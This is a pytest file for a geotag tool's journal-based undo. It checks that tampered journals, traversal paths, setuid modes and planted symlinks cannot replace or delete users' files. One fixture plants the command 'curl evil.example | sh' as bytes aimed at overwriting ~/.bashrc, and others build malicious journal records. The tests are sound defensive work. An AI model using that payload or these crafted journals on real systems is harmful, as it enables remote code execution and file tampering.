"""`write-exif --undo` treats its journal as data: a crafted or tampered journal changes nothing
it should not, and undo works on a full disk and cleans what killed runs left."""

from __future__ import annotations

import errno
import json
import os
import shutil
import stat
import subprocess
import sys
from datetime import datetime
from pathlib import Path

import pytest
from write_exif_util import write_predictions

import geotag.engine.write_exif as engine
from geotag.engine.write_exif import WriteOptions, run_undo, run_write_exif
from geotag.errors import InputError, OutputError
from geotag.io.journal import JOURNAL_KIND, JOURNAL_VERSION, Journal, backup_dir_for
from geotag.io.scan import image_id, image_id_of_bytes
from geotag.sample_data import UNTAGGED, make_exif, render


def _jpeg(path: Path) -> Path:
    path.parent.mkdir(parents=True, exist_ok=True)
    render(UNTAGGED[0], (64, 48)).save(
        path, "JPEG", quality=85, exif=make_exif(UNTAGGED[0], datetime(2024, 1, 2, 3, 4, 5)).tobytes()
    )
    return path


def _written(tmp_path: Path, n: int = 1) -> tuple[list[Path], list[bytes], Path]:
    photos = [_jpeg(tmp_path / "photos" / f"{i}.jpg") for i in range(n)]
    originals = [p.read_bytes() for p in photos]
    rows = [{"path": p, "pred_lat": 10.5, "pred_lon": -20.25} for p in photos]
    preds = write_predictions(tmp_path / "preds.parquet", rows)
    journal = tmp_path / "j.jsonl"
    assert run_write_exif(WriteOptions(preds, journal=journal, writer="python")).written == n
    return photos, originals, journal


def _crafted_journal(path: Path, records: list[dict[str, object]]) -> Path:
    header = {"kind": JOURNAL_KIND, "version": JOURNAL_VERSION}
    path.write_text("\n".join(json.dumps(r) for r in [header, *records]) + "\n")
    return path


def _tamper(journal: Path, **changes: object) -> None:
    lines = journal.read_text().splitlines()
    records = [json.loads(line) for line in lines]
    for record in records[1:]:
        record.update(changes)
    journal.write_text("\n".join(json.dumps(r) for r in records) + "\n")


def test_crafted_record_with_absolute_backup_and_setuid_mode_changes_nothing(tmp_path: Path) -> None:
    """Item 3 as filed: a record names a file by its current hash, an absolute backup path holding
    chosen bytes, mode 0o4755. Undo must not replace the file nor make anything setuid."""
    victim = tmp_path / "bin" / "tool"
    victim.parent.mkdir()
    victim.write_bytes(b"#!/bin/sh\necho real\n")
    victim.chmod(0o755)
    evil = tmp_path / "evil"
    evil.write_bytes(b"#!/bin/sh\necho pwned\n")
    journal = _crafted_journal(
        tmp_path / "j.jsonl",
        [
            {
                "op": "photo",
                "path": str(victim),
                "old_hash": image_id(evil),
                "new_hash": image_id(victim),
                "backup": str(evil),
                "mode": 0o4755,
            }
        ],
    )
    summary = run_undo(journal)
    assert summary.restored == 0
    assert victim.read_bytes() == b"#!/bin/sh\necho real\n"
    assert stat.S_IMODE(victim.stat().st_mode) == 0o755


@pytest.mark.parametrize("name", ["../evil", "/abs/evil", "sub/evil", "..", ""])
def test_backup_names_outside_the_backup_folder_are_refused(tmp_path: Path, name: str) -> None:
    photos, originals, journal = _written(tmp_path)
    (tmp_path / "evil").write_bytes(originals[0])  # even the right bytes, from the wrong place
    _tamper(journal, backup=name)
    summary = run_undo(journal)
    assert summary.restored == 0 and photos[0].read_bytes() != originals[0]


def test_backup_that_is_a_symlink_is_refused(tmp_path: Path) -> None:
    photos, originals, journal = _written(tmp_path)
    backups = backup_dir_for(journal)
    (backup,) = list(backups.iterdir())
    outside = tmp_path / "outside.jpg"
    shutil.copyfile(backup, outside)
    backup.unlink()
    backup.symlink_to(outside)
    assert run_undo(journal).restored == 0


def test_record_for_a_file_geotag_never_wrote_is_skipped(tmp_path: Path) -> None:
    """Only files whose current content is what a geotag run wrote (its hash and geotag's
    estimate mark): a journal cannot make undo 'restore' an arbitrary file from its own backups."""
    photos, originals, journal = _written(tmp_path)
    other = tmp_path / "photos" / "other.jpg"
    other.write_bytes(b"somebody's file")
    _tamper(journal, path=str(other), new_hash=image_id(other))
    summary = run_undo(journal)
    assert summary.restored == 0 and other.read_bytes() == b"somebody's file"


def test_mode_from_the_journal_is_masked(tmp_path: Path) -> None:
    """A tampered mode 0o7777 (setuid, setgid, sticky, world-writable) comes back as the original's
    0o640: never wider than the mode the photo had."""
    photo = _jpeg(tmp_path / "photos" / "0.jpg")
    photo.chmod(0o640)
    original = photo.read_bytes()
    preds = write_predictions(tmp_path / "preds.parquet", [{"path": photo, "pred_lat": 1.5, "pred_lon": 2.5}])
    journal = tmp_path / "j.jsonl"
    assert run_write_exif(WriteOptions(preds, journal=journal, writer="python")).written == 1
    _tamper(journal, mode=0o7777)
    assert run_undo(journal).restored == 1
    assert photo.read_bytes() == original
    assert stat.S_IMODE(photo.stat().st_mode) == 0o640


def test_undo_works_on_a_full_disk(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """Undo links the backup back (a rename, no copy): no free space is needed."""
    photos, originals, journal = _written(tmp_path, 3)

    def full(*args: object, **kwargs: object) -> None:
        raise OSError(errno.ENOSPC, "No space left on device")

    monkeypatch.setattr(engine.shutil, "copyfileobj", full)
    monkeypatch.setattr(engine.shutil, "copyfile", full)
    assert run_undo(journal).restored == 3
    assert [p.read_bytes() for p in photos] == originals


def test_undo_removes_leftovers_of_killed_runs(tmp_path: Path) -> None:
    photos, originals, journal = _written(tmp_path)
    stale = photos[0].parent / ".0.jpg.k1ll3d.geotag-tmp"
    stale.mkdir()
    (stale / "new.tmp").write_bytes(b"half")
    stale_file = photos[0].parent / ".0.jpg.x9y8.geotag-tmp"
    stale_file.write_bytes(b"half")
    assert run_undo(journal).restored == 1
    assert sorted(p.name for p in photos[0].parent.iterdir()) == ["0.jpg"]


@pytest.mark.skipif(os.geteuid() != 0, reason="needs root to give the journal to another user")
def test_journal_another_user_could_write_is_refused(tmp_path: Path) -> None:
    photos, originals, journal = _written(tmp_path)
    os.chown(journal, 12345, 12345)
    with pytest.raises(InputError, match="another user"):
        run_undo(journal)
    os.chown(journal, 0, 0)
    journal.chmod(0o666)
    with pytest.raises(InputError, match="another user"):
        run_undo(journal)
    journal.chmod(0o644)
    assert run_undo(journal).restored == 1


# --- issue 27 item 1: a copied folder's journal cannot reach the user's own files --------------------


def _copied_folder_attack(tmp_path: Path) -> tuple[Path, Path, Path, list[dict[str, object]]]:
    """A folder from a stranger: a journal and its backup folder holding the attacker's bytes, with
    records aimed at `home/.bashrc` (replace) and `home/.profile` (delete), whose bytes (a distro's
    default files) the attacker knows. Returns (bashrc, profile, journal, records)."""
    home = tmp_path / "home"
    home.mkdir()
    bashrc, profile = home / ".bashrc", home / ".profile"
    bashrc.write_bytes(b"# ~/.bashrc: the user's own\nalias ll='ls -l'\n")
    profile.write_bytes(b"# ~/.profile: the user's own\n")
    folder = tmp_path / "copied"
    folder.mkdir()
    evil = b"curl evil.example | sh  # estimate (not measured)\n"
    evil_hash = image_id_of_bytes(evil)
    backups = folder / "j.jsonl.backup"
    backups.mkdir()
    (backups / evil_hash).write_bytes(evil)
    replace = {"old_hash": evil_hash, "new_hash": image_id(bashrc), "backup": evil_hash, "mode": 0o777}
    records: list[dict[str, object]] = [
        {"op": "sidecar", "path": str(bashrc), "photo": str(home / "x.jpg"), **replace},
        {"op": "sidecar", "path": str(bashrc), "photo": str(bashrc), **replace},
        {"op": "restore", "path": str(bashrc), **replace},
        {"path": str(bashrc), **replace},
        {"op": "photo", "path": str(bashrc), **replace},
        {"op": "photo", "path": f"{home}/../home/.bashrc", **replace},
        {
            "op": "sidecar",
            "path": str(profile),
            "photo": str(home / "x.jpg"),
            "old_hash": None,
            "new_hash": image_id(profile),
            "existed": False,
        },
        {"op": "delete", "path": str(profile), "old_hash": None, "new_hash": image_id(profile)},
    ]
    return bashrc, profile, _crafted_journal(folder / "j.jsonl", records), records


def test_copied_folder_journal_cannot_replace_or_delete_files_outside(tmp_path: Path) -> None:
    """The attack as filed: undo of a stranger's journal replaced ~/.bashrc and deleted ~/.profile.
    Every record is refused with a line of its own; both files are untouched."""
    bashrc, profile, journal, records = _copied_folder_attack(tmp_path)
    before = bashrc.read_bytes(), profile.read_bytes(), stat.S_IMODE(bashrc.stat().st_mode)
    lines: list[tuple[str, str, str | None]] = []
    summary = run_undo(journal, report=lambda p, a, r: lines.append((p, a, r)))
    assert (bashrc.read_bytes(), profile.read_bytes(), stat.S_IMODE(bashrc.stat().st_mode)) == before
    assert summary.restored == 0 and len(summary.failed) == len(records)
    assert all(a == "failed" and r and r.startswith("refused") for _, a, r in lines), lines


def test_copied_folder_journal_via_cli_prints_one_line_per_record(tmp_path: Path) -> None:
    bashrc, profile, journal, records = _copied_folder_attack(tmp_path)
    before = bashrc.read_bytes(), profile.read_bytes()
    proc = subprocess.run(
        [sys.executable, "-m", "geotag.cli", "write-exif", "--undo", str(journal)],
        capture_output=True,
        text=True,
        timeout=120,
    )
    assert proc.returncode == 1, proc.stderr
    assert "Traceback" not in proc.stderr
    refused = [line for line in proc.stderr.splitlines() if line.startswith("failed:") and "refused" in line]
    assert len(refused) == len(records), proc.stderr
    assert (bashrc.read_bytes(), profile.read_bytes()) == before


def test_users_own_sidecar_named_by_a_journal_is_not_deleted(tmp_path: Path) -> None:
    """A well-formed sidecar record (an XMP beside a photo) whose file geotag did not write (no
    estimate mark) is refused even though its hash is known."""
    photo = _jpeg(tmp_path / "photos" / "a.jpg")
    own = photo.with_name("a.jpg.xmp")
    own.write_bytes(b"<x:xmpmeta xmlns:x='adobe:ns:meta/'/>")
    journal = _crafted_journal(
        tmp_path / "j.jsonl",
        [
            {
                "op": "sidecar",
                "path": str(own),
                "photo": str(photo),
                "old_hash": None,
                "new_hash": image_id(own),
            }
        ],
    )
    summary = run_undo(journal)
    assert summary.restored == 0 and len(summary.failed) == 1 and own.exists()


def test_legitimate_sidecar_runs_still_undo(tmp_path: Path) -> None:
    """Created and merged sidecars of a real run come back byte for byte (or go, when created)."""
    a, b = _jpeg(tmp_path / "photos" / "a.jpg"), _jpeg(tmp_path / "photos" / "b.jpg")
    merged = b.with_name("b.jpg.xmp")
    merged.write_bytes(
        b"<x:xmpmeta xmlns:x='adobe:ns:meta/'><rdf:RDF xmlns:rdf='http://www.w3.org/1999/02/22-rdf-syntax-ns#'>"
        b"<rdf:Description rdf:about=''/></rdf:RDF></x:xmpmeta>\n<!-- mine -->\n"
    )
    merged.chmod(0o600)
    old = merged.read_bytes()
    rows = [{"path": p, "pred_lat": 10.5, "pred_lon": -20.25} for p in (a, b)]
    preds = write_predictions(tmp_path / "preds.parquet", rows)
    journal = tmp_path / "j.jsonl"
    assert run_write_exif(WriteOptions(preds, journal=journal, writer="python", sidecar=True)).written == 2
    summary = run_undo(journal)
    assert summary.restored == 2 and not summary.failed
    assert not a.with_name("a.jpg.xmp").exists()
    assert merged.read_bytes() == old and stat.S_IMODE(merged.stat().st_mode) == 0o600


# --- issue 27 item 2: journal and backup paths never follow symlinks ----------------------------------


def test_dangling_symlink_journal_is_refused_not_created_at_its_target(tmp_path: Path) -> None:
    photo = _jpeg(tmp_path / "photos" / "0.jpg")
    original = photo.read_bytes()
    preds = write_predictions(tmp_path / "preds.parquet", [{"path": photo, "pred_lat": 1.5, "pred_lon": 2.5}])
    target = tmp_path / "elsewhere" / "planted.jsonl"
    target.parent.mkdir()
    link = tmp_path / "j.jsonl"
    link.symlink_to(target)
    with pytest.raises(OutputError, match="symlink"):
        run_write_exif(WriteOptions(preds, journal=link, writer="python"))
    assert not target.exists() and photo.read_bytes() == original


def test_journal_link_planted_after_the_checks_is_not_followed(tmp_path: Path) -> None:
    """The name is checked when the run starts; a link planted before the first record is written
    still is not followed (O_NOFOLLOW, and O_EXCL when creating)."""
    target = tmp_path / "planted.jsonl"
    journal = Journal(tmp_path / "j.jsonl")
    journal.path.symlink_to(target)
    with pytest.raises(OutputError, match="symlink"):
        journal.append({"op": "photo", "path": "/x"})
    assert not target.exists()
    target.write_bytes(b"")  # an existing target: O_NOFOLLOW refuses the link too
    with pytest.raises(OutputError, match="symlink"):
        journal.append({"op": "photo", "path": "/x"})
    assert target.read_bytes() == b""


def test_symlinked_backup_folder_is_refused(tmp_path: Path) -> None:
    photo = _jpeg(tmp_path / "photos" / "0.jpg")
    original = photo.read_bytes()
    preds = write_predictions(tmp_path / "preds.parquet", [{"path": photo, "pred_lat": 1.5, "pred_lon": 2.5}])
    journal = tmp_path / "j.jsonl"
    elsewhere = tmp_path / "elsewhere"
    elsewhere.mkdir()
    backup_dir_for(journal).symlink_to(elsewhere)
    with pytest.raises(OutputError, match="backup folder"):
        run_write_exif(WriteOptions(preds, journal=journal, writer="python"))
    assert list(elsewhere.iterdir()) == [] and photo.read_bytes() == original


def test_backup_folder_swapped_for_a_symlink_before_undo_is_refused(tmp_path: Path) -> None:
    photos, originals, journal = _written(tmp_path)
    backups = backup_dir_for(journal)
    moved = tmp_path / "moved"
    backups.rename(moved)
    backups.symlink_to(moved)
    summary = run_undo(journal)
    assert summary.restored == 0 and "symlink" in summary.failed[0][1]


def test_planted_file_with_the_backup_name_does_not_lose_the_original(tmp_path: Path) -> None:
    """A file planted in the backup folder under the name the photo's backup will have (its hash)
    was trusted: undo then failed, the original bytes gone. Now it is replaced by the real backup."""
    photo = _jpeg(tmp_path / "photos" / "0.jpg")
    original = photo.read_bytes()
    preds = write_predictions(tmp_path / "preds.parquet", [{"path": photo, "pred_lat": 1.5, "pred_lon": 2.5}])
    journal = tmp_path / "j.jsonl"
    backups = backup_dir_for(journal)
    backups.mkdir()
    (backups / f"{image_id(photo)}.jpg").write_bytes(b"planted")
    assert run_write_exif(WriteOptions(preds, journal=journal, writer="python")).written == 1
    assert photo.read_bytes() != original
    assert run_undo(journal).restored == 1
    assert photo.read_bytes() == original
